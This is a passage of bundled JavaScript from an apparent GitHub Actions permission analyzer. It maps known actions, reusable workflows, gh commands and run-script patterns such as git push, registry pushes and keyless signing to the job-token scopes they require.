    "geekyeggo/delete-artifact": { token: TOKEN, needs: { actions: "write" }, note: "v4 and later delete through the REST API." },
    "cloudposse/github-action-matrix-outputs-write": NOTHING,
    "cloudposse/github-action-matrix-outputs-read": NOTHING,
    "dawidd6/action-download-artifact": { token: { inputs: ["github_token"], defaultJob: true }, needs: { actions: "read", contents: "read" } },
    "nick-invision/retry": { code: { input: "command", kind: "shell" } },
    "nick-fields/retry": { code: { input: "command", kind: "shell" } },
    "addnab/docker-run-action": { code: { input: "run", kind: "shell" } },
    "crazy-max/ghaction-dump-context": NOTHING,
    "crazy-max/ghaction-github-runtime": NOTHING,
    "crazy-max/ghaction-import-gpg": NOTHING,
    "crazy-max/ghaction-setup-docker": setup,
    "masci/datadog": NOTHING,
    "slackapi/slack-github-action": NOTHING,
    "rtcamp/action-slack-notify": NOTHING,
    "8398a7/action-slack": NOTHING,
    "appleboy/ssh-action": NOTHING,
    "appleboy/scp-action": NOTHING,
    "webfactory/ssh-agent": NOTHING,
    "shimataro/ssh-key-action": NOTHING,
    "mxschmitt/action-tmate": NOTHING,
    "styfle/cancel-workflow-action": { token: { inputs: ["access_token"], defaultJob: true }, needs: { actions: "write" } },
    "andymckay/cancel-action": { token: { env: ["GITHUB_TOKEN"] }, needs: { actions: "write" } },
    "benc-uk/workflow-dispatch": { token: TOKEN, needs: { actions: "write" } },
    "kesin11/actions-timeline": { token: GITHUB_TOKEN, needs: { actions: "read" } },
    "tibdex/github-app-token": NOTHING,
    "imranismail/setup-kustomize": setup,
    "mikefarah/yq": NOTHING,
    "bats-core/bats-action": setup,
    "cyclonedx/gh-gomod-generate-sbom": setup,
    "cpanato/vault-installer": setup,
    "fluxcd/flux2/action": setup,
    "zgosalvez/github-actions-ensure-sha-pinned-actions": NOTHING,
    "creekorful/goreportcard-action": NOTHING,
    "rajatjindal/krew-release-bot": NOTHING,
    "vedantmgoyal9/winget-releaser": { token: { inputs: ["token"], defaultJob: false }, note: "Needs a personal token to fork winget-pkgs; the job token is not used." },
    "chainguard-dev/actions/donotsubmit": NOTHING,
    "chainguard-dev/actions/trailing-space": NOTHING,
    "chainguard-dev/actions/eof-newline": NOTHING,
    "chainguard-dev/actions/goimports": NOTHING,
    "chainguard-dev/actions/gofmt": NOTHING,
    "chainguard-dev/actions/nodiff": NOTHING,
    "dkershner6/reaction-action": comment("issue-or-pr"),
    "ben-z/actions-comment-on-issue": comment("issue-or-pr"),
    "jpmcb/prow-github-actions": { token: { inputs: ["github-token"], defaultJob: true }, needs: { issues: "write", "pull-requests": "write" }, allows: { contents: "write" } },
    "knqyf263/trivy-issue-action": { token: TOKEN, needs: { issues: "write" } },
    "stefanprodan/helm-gh-pages": RELEASE,
    "cbrgm/cleanup-stale-branches-action": { token: { inputs: ["github-token"], defaultJob: true }, needs: { contents: "write", "pull-requests": "read" } },
    "eps1lon/actions-label-merge-conflict": { token: { inputs: ["repoToken"], defaultJob: false }, needs: { "pull-requests": "write" }, allows: { issues: "write" } },
    "homebrew/actions/limit-pull-requests": { token: TOKEN, needs: { "pull-requests": "write" } },
    "devcontainers/ci": { pushes: (a) => !/^never$/i.test(a.input("push") ?? "filter") && (a.input("imageName") ?? "") },
    // Peptide's own actions: the scopes each asks for in its docs.
    "peptide-dev/peptide": peptideAttest,
    "peptide-dev/peptide/actions/attest": peptideAttest,
    "peptide-dev/peptide/actions/provenance": peptideAttest,
    "peptide-dev/peptide/actions/sign": peptideAttest,
    "peptide-dev/peptide/actions/promote": {
        token: GITHUB_TOKEN,
        when: [
            PEPTIDE_SIGNING,
            { text: "`approvals` is not `none` (the run's deployment review history)", test: (a) => !/^\s*none\s*$/i.test(a.input("approvals") ?? "github"), needs: { actions: "read" } },
            { text: "`forbid-self-approval` is true (the change's commit and pull requests)", test: (a) => mayBeTrue(a.input("forbid-self-approval")), needs: { contents: "read", "pull-requests": "read" } },
        ],
        // forbid-self-approval may also come from the policy file's environment mapping.
        allows: { contents: "read", "pull-requests": "read" },
        ghcrLogin: (a) => onGhcr(a, "to") || onGhcr(a, "source"),
        pushes: (a) => a.input("to") ?? "",
        note: "Reads the run's deployment approvals (`actions: read`), and with `forbid-self-approval` the change's commit and pull requests; signs the promotion evidence with the job's OIDC token.",
    },
    "peptide-dev/peptide/actions/verify": { token: GITHUB_TOKEN, ghcrLogin: (a) => onGhcr(a, "subject-name") },
    "peptide-dev/peptide/actions/trace": { token: GITHUB_TOKEN, ghcrLogin: (a) => onGhcr(a, "image") },
    "peptide-dev/peptide/actions/audit": NOTHING,
    "peptide-dev/peptide/actions/sbom": NOTHING,
};
/** An entry whose token comes from one input. */
function tokenInput(input, needs, defaultJob = true, allows) {
    return { token: { inputs: [input], defaultJob }, needs, allows };
}
function publishUnitTest() {
    return {
        token: { inputs: ["github_token"], defaultJob: true },
        needs: { checks: "write", contents: "read" },
        when: [{ text: "`comment_mode` is not `off`, on pull-request events", test: (a) => onPullRequests(a) && !/^off$/i.test(a.input("comment_mode") ?? ""), needs: { "pull-requests": "write" } }],
        allows: { issues: "read" },
    };
}
/** Well-known reusable workflows (`jobs.<id>.uses`), keyed by lower-case `owner/repo/path` without the ref. */
const REUSABLE_WORKFLOWS = {
    "slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml": { needs: { actions: "read", contents: "write", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml": { needs: { actions: "read", "id-token": "write", packages: "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/builder_go_slsa3.yml": { needs: { actions: "read", contents: "write", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/builder_nodejs_slsa3.yml": { needs: { actions: "read", contents: "read", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/builder_maven_slsa3.yml": { needs: { actions: "read", contents: "read", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/builder_gradle_slsa3.yml": { needs: { actions: "read", contents: "read", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/delegator_generic_slsa3.yml": { needs: { actions: "read", contents: "read", "id-token": "write" } },
    "slsa-framework/slsa-github-generator/.github/workflows/delegator_lowperms-generic_slsa3.yml": { needs: { actions: "read", contents: "read", "id-token": "write" } },
};
//# sourceMappingURL=actions.js.map

/***/ }),

/***/ 15273:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   CH: () => (/* binding */ shellWords),
/* harmony export */   FS: () => (/* binding */ GH_COMMANDS),
/* harmony export */   ZE: () => (/* binding */ scriptUse),
/* harmony export */   zf: () => (/* binding */ SCRIPT_COMMANDS)
/* harmony export */ });
/* harmony import */ var _github_api_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70493);
/* harmony import */ var _token_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(37990);
/* harmony import */ var _scopes_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(51630);



/** `gh <group> <command>`: what each needs from the token gh is given. Absent commands are unknown. */
const GH_COMMANDS = {
    pr: {
        view: { "pull-requests": "read" }, list: { "pull-requests": "read" }, diff: { "pull-requests": "read" }, checks: { "pull-requests": "read", checks: "read" }, status: { "pull-requests": "read" },
        checkout: { contents: "read", "pull-requests": "read" },
        create: { "pull-requests": "write" }, comment: { "pull-requests": "write" }, edit: { "pull-requests": "write" }, review: { "pull-requests": "write" },
        close: { "pull-requests": "write" }, reopen: { "pull-requests": "write" }, ready: { "pull-requests": "write" }, lock: { "pull-requests": "write" }, unlock: { "pull-requests": "write" },
        merge: { contents: "write", "pull-requests": "write" }, update: { contents: "write", "pull-requests": "write" }, "update-branch": { contents: "write", "pull-requests": "write" },
    },
    issue: {
        view: { issues: "read" }, list: { issues: "read" }, status: { issues: "read" },
        create: { issues: "write" }, comment: { issues: "write" }, edit: { issues: "write" }, close: { issues: "write" }, reopen: { issues: "write" },
        delete: { issues: "write" }, lock: { issues: "write" }, unlock: { issues: "write" }, pin: { issues: "write" }, unpin: { issues: "write" }, transfer: { issues: "write" }, develop: { issues: "write", contents: "write" },
    },
    release: {
        view: { contents: "read" }, list: { contents: "read" }, download: { contents: "read" }, verify: { contents: "read" }, "verify-asset": { contents: "read" },
        create: { contents: "write" }, upload: { contents: "write" }, edit: { contents: "write" }, delete: { contents: "write" }, "delete-asset": { contents: "write" },
    },
    run: { view: { actions: "read" }, list: { actions: "read" }, watch: { actions: "read" }, download: { actions: "read" }, rerun: { actions: "write" }, cancel: { actions: "write" }, delete: { actions: "write" } },
    workflow: { view: { actions: "read" }, list: { actions: "read" }, run: { actions: "write" }, enable: { actions: "write" }, disable: { actions: "write" } },
    cache: { list: { actions: "read" }, delete: { actions: "write" } },
    label: { list: { issues: "read" }, create: { issues: "write" }, edit: { issues: "write" }, delete: { issues: "write" }, clone: { issues: "write" } },
    repo: { view: {}, clone: { contents: "read" }, sync: { contents: "write" } },
    attestation: { verify: { attestations: "read" }, download: { attestations: "read" }, "trusted-root": {} },
    auth: { status: {}, token: {}, "setup-git": {}, login: {}, logout: {}, switch: {} },
    search: { repos: {}, issues: {}, prs: {}, code: {}, commits: {} },
};
/** The other commands `scriptUse` recognises, in words, for docs/permissions.md. Keep in step with the patterns below. */
const SCRIPT_COMMANDS = [
    { command: "`git push`", needs: "`contents: write`", when: "git holds the job token: left by `actions/checkout` (its default), put in the remote URL or header, or `gh auth setup-git`" },
    { command: "`git fetch`, `pull`, `clone`, `ls-remote`", needs: "`contents: read`", when: "git holds the job token" },
    { command: "`gh api <path>` (`-X`/`--method`, or `-f`/`-F` for POST)", needs: "by path: issues, labels, pulls, releases, git, contents, statuses, check-runs, deployments, actions, pages, code-scanning, attestations, dependency-graph", when: "gh has the job token; GraphQL and admin paths are left unclassified" },
    { command: "`curl`/`wget` to `api.github.com`, `uploads.github.com` or `$GITHUB_API_URL`", needs: "as `gh api`", when: "the command line carries the job token" },
    { command: "`docker`/`podman`/`oras`/`helm registry`/`cosign`/`crane auth` `login ghcr.io`", needs: "`packages: write` if the job pushes (or runs code we cannot see), else `packages: read`", when: "the login uses the job token" },
    { command: "`docker push`, `buildx --push`, `imagetools create`, `crane`/`oras` push, `cosign sign`, `ko build`, `helm push`, `goreleaser release`", needs: "counts as a push for the login above", when: "the target is, or may be, ghcr.io" },
    { command: "`cosign sign`/`attest`/`sign-blob`/`attest-blob` without `--key`", needs: "`id-token: write`", when: "always (keyless signing)" },
    { command: "`gitsign`, `sigstore sign`", needs: "`id-token: write`", when: "always" },
    { command: "`npm`/`pnpm`/`yarn publish --provenance`, or `NPM_CONFIG_PROVENANCE=true`", needs: "`id-token: write`", when: "always" },
    { command: "`jsr publish`, `deno publish`", needs: "`id-token: write`", when: "always" },
    { command: "anything naming `ACTIONS_ID_TOKEN_REQUEST_URL` / `_TOKEN`", needs: "`id-token: write`", when: "always" },
    { command: "`npm publish` (trusted publishing), `uv publish`, `twine upload`", needs: "`id-token: write` tolerated", when: "always" },
    { command: "`semantic-release`", needs: "`contents`, `issues`, `pull-requests: write`", when: "the job token reaches the step" },
    { command: "`goreleaser release` (not `--snapshot`, not skipping publish)", needs: "`contents: write`; `packages`, `id-token: write` tolerated", when: "the job token reaches the step" },
    { command: "scripts, `make`, `mage`, `task`, interpreters given a file, programs named by a variable", needs: "not classified", when: "the job token reaches the step (or the name says release, publish, push, tag, label, comment...)" },
];
/** gh commands that never use the repository token for anything permissioned. */
const GH_NEUTRAL = new Set(["browse", "status", "config", "alias", "completion", "help", "version", "--version", "extension", "ext"]);
/** Commands that push to a container or artifact registry (the login decides which token). */
const REGISTRY_PUSH = [
    /\b(?:docker|podman|buildah)\s+(?:image\s+)?push\b/,
    /\b(?:docker\s+)?buildx\s+(?:build|bake)\b[^\n]*--push\b/,
    /\bdocker\s+buildx\s+imagetools\s+create\b/,
    /\b(?:docker|podman)\s+manifest\s+push\b/,
    /\bcrane\s+(?:push|copy|cp|append|mutate|tag|flatten|index\s+append)\b/,
    /\boras\s+(?:push|attach|copy|cp|tag|manifest\s+push)\b/,
    /\bcosign\s+(?:sign|attest|copy|attach|upload)\b/,
    /\bskopeo\s+copy\b/,
    /\bhelm\s+push\b/,
    /\bregctl\s+(?:image\s+copy|artifact\s+put|index\s+create)\b/,
    /\bko\s+(?:build|publish|resolve|apply)\b(?![^\n]*(?:--local|--push=false|\s-L\b))/,
    /\bgoreleaser\s+release\b/,
];
const REGISTRY_LOGIN = /\b(?:docker|podman|buildah|skopeo|oras|cosign|ko|crane\s+auth|helm\s+registry|regctl\s+registry)\s+login\b[^\n]*ghcr\.io|ghcr\.io[^\n]*\|\s*(?:docker|podman|oras|helm\s+registry)\s+login\b/;
const ANY_LOGIN = /\b(?:docker|podman|buildah|skopeo|oras|cosign|ko|crane\s+auth|helm\s+registry|regctl\s+registry)\s+login\b[^\n]*["']?\$\{?\w+/;
/** Words that suggest a command we cannot see into writes to GitHub with a token it finds in its environment. */
const WRITE_HINT = /release|publish|deploy|push|label|comment|\btag|upload|sync|bump|backport|milestone|changelog|merge|dispatch|promote/i;
/** Commands that run code we cannot see: script files, task runners, an interpreter given a file. */
const RUNNER = /^(?:\.{0,2}\/\S+|[\w.-]+\/[\w./-]+|\S+\.(?:sh|bash|py|js|mjs|ts|rb|pl|ps1)|make|mage|task|just|rake)(?:\s|$)|^(?:node|python3?|ruby|perl|bash|sh|pwsh|deno\s+run|go\s+run)\s+\S+\.\w+/;
/** Command lines classified above: not opaque even when they carry a write-sounding word. */
const CLASSIFIED_LINE = /\b(?:npm|pnpm|yarn|bun)\s+(?:npm\s+)?publish\b|\bjsr\s+publish\b|\bdeno\s+publish\b|semantic-release|\bgoreleaser\b|\buv\s+publish\b|\btwine\s+upload\b/;
/** Shell builtins and tools that never use a GitHub token. */
const PLAIN = new Set([
    "echo", "printf", "cd", "pushd", "popd", "exit", "set", "unset", "shopt", "export", "if", "then", "else", "elif", "fi", "for", "in", "do", "done", "while",
    "until", "case", "esac", "test", "[", "[[", "]]", "]", "true", "false", ":", "cat", "ls", "mkdir", "rm", "rmdir", "cp", "mv", "touch", "pwd", "jq", "yq", "grep",
    "egrep", "sed", "awk", "cut", "tr", "head", "tail", "sort", "uniq", "wc", "tee", "base64", "sha256sum", "sha512sum", "shasum", "md5sum", "find", "dirname",
    "basename", "date", "sleep", "read", "local", "return", "chmod", "chown", "ln", "tar", "unzip", "zip", "gzip", "gunzip", "xz", "zstd", "file", "which",
    "command", "type", "realpath", "readlink", "stat", "du", "df", "uname", "whoami", "id", "printenv", "diff", "cmp", "seq", "expr", "nproc", "mktemp", "wait",
    "trap", "sudo", "apt", "apt-get", "brew", "choco", "xargs", "env", "time", "tree", "openssl", "ssh-keygen", "gpg", "{", "}", "(", ")", "declare", "break", "continue",
]);
const GH_CALL = /(?<![\w./-])gh\s+([a-z][a-z-]*)(?:\s+([a-z][a-z-]*))?/g;
const GH_API = /(?<![\w./-])gh\s+api\s+([^\n|;&)]*)/g;
const GIT_CALL = /(?<![\w./-])git\s+([^\n|;&]*)/g;
const HTTP_CALL = /(?<![\w./-])(?:curl|wget|http|https)\s+([^\n|;&]*)/g;
const COSIGN_KEYLESS = /(?<![\w./-])cosign\s+(?:sign|attest|sign-blob|attest-blob)\b([^\n|;&]*)/g;
const OIDC_REQUEST = /ACTIONS_ID_TOKEN_REQUEST_(?:URL|TOKEN)/;
/** What a `run:` script needs from the job token. */
function scriptUse(script, ctx) {
    const full = joinContinuations(stripHeredocs(script));
    // what `echo "..."` prints is text, not commands
    const text = full.replace(/\b(echo|printf)(\s+-\w+)*\s+("[^"\n]*"|'[^'\n]*')/g, "$1 ''");
    const out = { needs: [], allows: {}, unknown: [], opaque: [], ghcrLogin: false, pushTargets: [], gitCredentials: ctx.gitCredentials };
    const add = (grants, why) => {
        for (const [scope, access] of Object.entries(grants))
            out.needs.push({ scope, access, why });
    };
    const inline = (0,_token_js__WEBPACK_IMPORTED_MODULE_1__/* .embedsJobToken */ .fA)(full);
    const namesToken = [...ctx.tokenVars].some((name) => mentionsVariable(full, name));
    const ghToken = ghHasJobToken(text, ctx) || inline;
    const tokenReachable = ghToken || inline || namesToken || ctx.stepTokenVars.size > 0;
    if (ghToken)
        classifyGh(text, ctx, add, out);
    if (ghToken && /\bgh\s+auth\s+setup-git\b/.test(text))
        out.gitCredentials = true;
    if (inline || namesToken) {
        if (/x-access-token|extraheader|@github\.com|git\s+remote\s+set-url|git\s+config[^\n]*url\./i.test(text))
            out.gitCredentials = true;
    }
    classifyGit(text, out, add);
    if (inline || namesToken)
        classifyHttp(text, ctx, add, out);
    classifyOidc(text, ctx, add, out);
    classifyReleaseTools(text, tokenReachable, add, out);
    for (const line of text.split("\n")) {
        if (!REGISTRY_PUSH.some((re) => re.test(line)))
            continue;
        // ko pushes to $KO_DOCKER_REPO, which ko-build/setup-ko points at ghcr.io when it is not set
        out.pushTargets.push(/\bko\s/.test(line) ? `${line} ${ctx.env.get("KO_DOCKER_REPO") ?? "ghcr.io"}` : line);
    }
    out.ghcrLogin = REGISTRY_LOGIN.test(text) && (inline || namesToken);
    // a login to a registry named by a variable may be ghcr.io with a job token passed in as a secret
    if (ANY_LOGIN.test(text) && !out.ghcrLogin)
        out.allows.packages = "write";
    const opaque = opaqueCommands(text, ctx, inline || namesToken);
    out.opaque.push(...opaque.opaque);
    if (tokenReachable)
        out.unknown.push(...opaque.unknown);
    return out;
}
function ghHasJobToken(text, ctx) {
    // gh reads GH_TOKEN first, then GITHUB_TOKEN
    const ghTokenValue = ctx.env.get("GH_TOKEN");
    if (ghTokenValue !== undefined)
        return ctx.tokenVars.has("GH_TOKEN");
    if (ctx.tokenVars.has("GITHUB_TOKEN"))
        return true;
    // GH_TOKEN=$TOKEN gh ..., export GH_TOKEN="${{ github.token }}", gh auth login --with-token <<< $TOKEN
    const assigned = /\b(?:GH_TOKEN|GITHUB_TOKEN)=["']?\$\{?(\w+)/g;
    for (const match of text.matchAll(assigned))
        if (ctx.tokenVars.has(match[1] ?? ""))
            return true;
    if (/gh\s+auth\s+login\b/.test(text))
        return [...ctx.tokenVars].some((name) => mentionsVariable(text, name));
    return false;
}
function classifyGh(text, ctx, add, out) {
    for (const match of text.matchAll(GH_CALL)) {
        const group = match[1] ?? "";
        const command = match[2] ?? "";
        if (group === "api" || GH_NEUTRAL.has(group))
            continue;
        const table = GH_COMMANDS[group];
        const grants = table?.[command];
        if (grants)
            add(grants, `gh ${group} ${command}`);
        else
            out.unknown.push(`gh ${group}${command ? ` ${command}` : ""}`);
    }
    for (const match of text.matchAll(GH_API)) {
        const words = shellWords(match[1] ?? "");
        const { method, path } = ghApiArgs(words);
        if (!path) {
            out.unknown.push("gh api");
            continue;
        }
        applyApi((0,_github_api_js__WEBPACK_IMPORTED_MODULE_0__/* .restUse */ .ok)(method, path, ctx.pullRequests), `gh api ${method === "GET" ? "" : `-X ${method} `}${shorten(path)}`, add, out);
    }
}
function ghApiArgs(words) {
    const valued = new Set(["-X", "--method", "-H", "--header", "-f", "-F", "--field", "--raw-field", "--jq", "-q", "--template", "-t", "--input", "--hostname", "--cache", "-p", "--preview"]);
    let method;
    let hasBody = false;
    let path;
    for (let i = 0; i < words.length; i++) {
        const word = words[i] ?? "";
        const [flag, inlineValue] = word.startsWith("--") && word.includes("=") ? [word.slice(0, word.indexOf("=")), word.slice(word.indexOf("=") + 1)] : [word, undefined];
        if (flag === "-X" || flag === "--method")
            method = (inlineValue ?? words[++i] ?? "GET").toUpperCase();
        else if (/^-X[A-Z]+$/.test(word))
            method = word.slice(2);
        else if (["-f", "-F", "--field", "--raw-field", "--input"].includes(flag)) {
            hasBody = true;
            if (inlineValue === undefined)
                i++;
        }
        else if (valued.has(flag)) {
            if (inlineValue === undefined)
                i++;
        }
        else if (!word.startsWith("-") && path === undefined)
            path = word;
    }
    return { method: method ?? (hasBody ? "POST" : "GET"), path };
}
function applyApi(use, why, add, out) {
    add(use.grants, why);
    if (use.allows)
        (0,_scopes_js__WEBPACK_IMPORTED_MODULE_2__/* .mergeGrants */ .GI)(out.allows, use.allows);
    if (use.unknown)
        out.unknown.push(why);
}
function classifyGit(text, out, add) {
    if (!out.gitCredentials)
        return;
    for (const match of text.matchAll(GIT_CALL)) {
        const words = shellWords(match[1] ?? "");
        let i = 0;
        while (i < words.length && (words[i] ?? "").startsWith("-"))
            i += words[i] === "-c" || words[i] === "-C" ? 2 : 1; // git -c key=value -C dir <command>
        const command = words[i];
        const rest = words.slice(i + 1).join(" ");
        if (command === "push" && !/--dry-run|(?:^|\s)-n\b/.test(rest))
            add({ contents: "write" }, "git push");
        else if (command === "fetch" || command === "pull" || command === "ls-remote" || command === "clone")
            add({ contents: "read" }, `git ${command}`);
    }
}
function classifyHttp(text, ctx, add, out) {
    for (const match of text.matchAll(HTTP_CALL)) {
        const args = match[1] ?? "";
        const words = shellWords(args);
        const url = words.find((w) => /api\.github\.com|uploads\.github\.com|GITHUB_API_URL|github\.api_url/i.test(w));
        if (!url)
            continue;
        const usesToken = (0,_token_js__WEBPACK_IMPORTED_MODULE_1__/* .embedsJobToken */ .fA)(args) || [...ctx.tokenVars].some((name) => mentionsVariable(args, name)) || /Authorization/i.test(args);
        if (!usesToken)
            continue;
        const explicit = /(?:-X|--request)\s*=?\s*["']?([A-Za-z]+)/.exec(args)?.[1];
        const method = explicit ?? (/(?:^|\s)(?:-d|--data[\w-]*|-F|--form|--json|-T|--upload-file)\b/.test(args) ? "POST" : "GET");
        if (/uploads\.github\.com/.test(url)) {
            add({ contents: "write" }, "curl uploads.github.com");
            continue;
        }
        const path = url.replace(/^.*?(?:api\.github\.com|GITHUB_API_URL\}?|github\.api_url\s*\}\})/i, "");
        applyApi((0,_github_api_js__WEBPACK_IMPORTED_MODULE_0__/* .restUse */ .ok)(method, path, ctx.pullRequests), `curl -X ${method.toUpperCase()} ${shorten(path)}`, add, out);
    }
}
function classifyOidc(text, ctx, add, out) {
    if (OIDC_REQUEST.test(text))
        add({ "id-token": "write" }, "an OIDC token request");
    for (const match of text.matchAll(COSIGN_KEYLESS)) {
        const rest = match[1] ?? "";
        if (!/--key\b|(?:^|\s)-key\b|--identity-token\b|--sk\b/.test(rest))
            add({ "id-token": "write" }, "keyless cosign signing");
    }
    if (/(?<![\w./-])gitsign\b/.test(text) || /(?<![\w./-])(?:python3?\s+-m\s+)?sigstore\s+(?:sign|attest)\b/.test(text))
        add({ "id-token": "write" }, "keyless Sigstore signing");
    const provenanceEnv = /^(?:true|1)$/i.test(ctx.env.get("NPM_CONFIG_PROVENANCE") ?? "") || /NPM_CONFIG_PROVENANCE=["']?true/i.test(text);
    for (const match of text.matchAll(/(?<![\w./-])(npm|pnpm|yarn(?:\s+npm)?)\s+publish\b([^\n|;&]*)/g)) {
        if (provenanceEnv || /--provenance\b/.test(match[2] ?? ""))
            add({ "id-token": "write" }, `${match[1]} publish --provenance`);
        else
            out.allows["id-token"] = "write"; // npm trusted publishing also uses the OIDC token
    }
    if (/(?<![\w./-])(?:npx\s+|deno\s+)?jsr\s+publish\b|deno\s+publish\b/.test(text))
        add({ "id-token": "write" }, "jsr publish");
    if (/(?<![\w./-])uv\s+publish\b|twine\s+upload\b/.test(text))
        out.allows["id-token"] = "write";
}
function classifyReleaseTools(text, tokenReachable, add, out) {
    if (!tokenReachable)
        return;
    if (/(?<![\w./-])semantic-release\b/.test(text)) {
        add({ contents: "write", issues: "write", "pull-requests": "write" }, "semantic-release");
        out.allows["id-token"] = "write";
    }
    const goreleaser = /(?<![\w./-])goreleaser\s+release\b([^\n|;&]*)/.exec(text);
    if (goreleaser && !/--snapshot|--skip[= ]?[\w,]*publish|--skip-publish/.test(goreleaser[1] ?? "")) {
        add({ contents: "write" }, "goreleaser release");
        (0,_scopes_js__WEBPACK_IMPORTED_MODULE_2__/* .mergeGrants */ .GI)(out.allows, { packages: "write", "id-token": "write" });
    }
}
/** Commands that run code we cannot see; `unknown` when they get the job token. */
function opaqueCommands(text, ctx, named) {
    const out = { unknown: [], opaque: [] };
    const handed = named || ctx.stepTokenVars.size > 0;
    const tokenReachable = handed || ctx.tokenVars.size > 0;
    for (const command of simpleCommands(text)) {
        const words = shellWords(command);
        while (words.length > 0 && (/^[A-Za-z_]\w*=/.test(words[0] ?? "") || PREFIXES.has(words[0] ?? "")))
            words.shift();
        const name = words[0];
        if (name && (/^\$\{?\w+\}?\//.test(name) || (/^\$\{?\w+\}?$/.test(name) && words.length > 1))) {
            // a program named by a variable: "$GITHUB_WORKSPACE/$BUILDER_BINARY" attest
            out.opaque.push(shorten(words.join(" ")));
            if (tokenReachable)
                out.unknown.push(shorten(words.join(" ")));
            continue;
        }
        if (!name || !/^[\w./][\w./+-]*$/.test(name) || PLAIN.has(name))
            continue;
        const base = name.replace(/^.*\//, "");
        const line = words.join(" ");
        if (RECOGNIZED.has(base) || CLASSIFIED_LINE.test(line))
            continue;
        const runner = RUNNER.test(line) || TEST_RUNNER.test(line);
        if (runner)
            out.opaque.push(shorten(line));
        if (!tokenReachable)
            continue;
        const usesTokenHere = [...ctx.tokenVars].some((v) => mentionsVariable(line, v)) || (0,_token_js__WEBPACK_IMPORTED_MODULE_1__/* .embedsJobToken */ .fA)(line);
        if (usesTokenHere || WRITE_HINT.test(line) || RUNNER.test(line))
            out.unknown.push(shorten(line));
    }
    return out;
}
const PREFIXES = new Set(["sudo", "time", "exec", "nohup", "then", "do", "else", "elif", "if", "while", "until", "!", "env", "command", "{", "("]);
/** Package scripts and test runners: they run project code (which could request an OIDC token). */
const TEST_RUNNER = /^(?:npm|pnpm|yarn|bun)\s+(?:run\s+|exec\s+)?(?:test|[\w:-]*(?:test|e2e|itg|integration|sign|release|publish|deploy)[\w:-]*)\b|^(?:npx|pnpx|bunx)\s|^go\s+(?:test|run)\b|^cargo\s+(?:test|run)\b|^(?:pytest|tox|nox|rspec|jest|vitest|mocha)\b|^(?:\.\/)?gradlew?\s|^mvn\s|^dotnet\s+(?:test|run)\b|^bundle\s+exec\b/;
/** Tools whose token use we classify above (or that never use the GitHub token). */
const RECOGNIZED = new Set(["gh", "git", "curl", "wget", "cosign", "gitsign", "docker", "podman", "buildah", "crane", "oras", "skopeo", "helm", "regctl", "ko", "jsr", "semantic-release", "goreleaser", "sigstore", "twine", "uv"]);
/** Splits a script into simple commands at newlines, `;`, `&&`, `||`, `|`, outside quotes; command substitutions start a command of their own. */
function simpleCommands(text) {
    const out = [];
    let current = "";
    let quote;
    const cut = () => {
        const part = current.trim();
        if (part !== "")
            out.push(part);
        current = "";
    };
    for (let i = 0; i < text.length; i++) {
        const ch = text[i] ?? "";
        const next = text[i + 1] ?? "";
        if (quote === "'") {
            if (ch === "'")
                quote = undefined;
            current += ch;
            continue;
        }
        if (ch === "$" && next === "(" && text[i + 2] !== "(") {
            cut();
            i++;
            continue;
        }
        if (ch === "`") {
            cut();
            continue;
        }
        if (quote === '"') {
            if (ch === '"' && text[i - 1] !== "\\")
                quote = undefined;
            current += ch;
            continue;
        }
        if (ch === "'" || ch === '"') {
            quote = ch;
            current += ch;
        }
        else if (ch === "#" && (current === "" || /\s$/.test(current))) {
            while (i < text.length && text[i] !== "\n")
                i++;
            cut();
        }
        else if (ch === "\n" || ch === ";" || ch === "|" || ch === ")" || (ch === "&" && next === "&")) {
            cut();
            if ((ch === "&" || ch === "|") && next === ch)
                i++;
        }
        else
            current += ch;
    }
    cut();
    return out;
}
function joinContinuations(text) {
    return text.replace(/\\\r?\n/g, " ").replace(/`\r?\n/g, " ");
}
/** Drops here-document bodies: their lines are data, not commands. */
function stripHeredocs(text) {
    const lines = text.split("\n");
    const out = [];
    let terminator;
    for (const line of lines) {
        if (terminator !== undefined) {
            if (line.trim() === terminator)
                terminator = undefined;
            continue;
        }
        out.push(line);
        const heredoc = /<<-?\s*(["']?)([A-Za-z_]\w*)\1/.exec(line);
        if (heredoc && !line.includes("<<<"))
            terminator = heredoc[2];
    }
    return out.join("\n");
}
function mentionsVariable(text, name) {
    const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    return new RegExp(`\\$\\{?${escaped}\\b|\\$env:${escaped}\\b|%${escaped}%|process\\.env\\.${escaped}\\b|environ(?:\\.get\\(|\\[)["']${escaped}["']`).test(text);
}
/** Splits a command line into words, honouring single and double quotes. */
function shellWords(text) {
    const words = [];
    let current = "";
    let quote;
    let inWord = false;
    for (const ch of text) {
        if (quote) {
            if (ch === quote)
                quote = undefined;
            else
                current += ch;
        }
        else if (ch === "'" || ch === '"') {
            quote = ch;
            inWord = true;
        }
        else if (/\s/.test(ch)) {
            if (inWord)
                words.push(current);
            current = "";
            inWord = false;
        }
        else {
            current += ch;
            inWord = true;
        }
    }
    if (inWord)
        words.push(current);
    return words;
}
function shorten(text) {
    const one = text.replace(/\s+/g, " ").trim();
    return one.length > 60 ? `${one.slice(0, 57)}...` : one;
}
//# sourceMappingURL=commands.js.map

/***/ }),

/***/ 72410:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   k: () => (/* binding */ requiredPermissions),
/* harmony export */   v: () => (/* binding */ stepLabel)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _model_source_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11257);
/* harmony import */ var _uses_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(72786);
/* harmony import */ var _walk_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(78443);
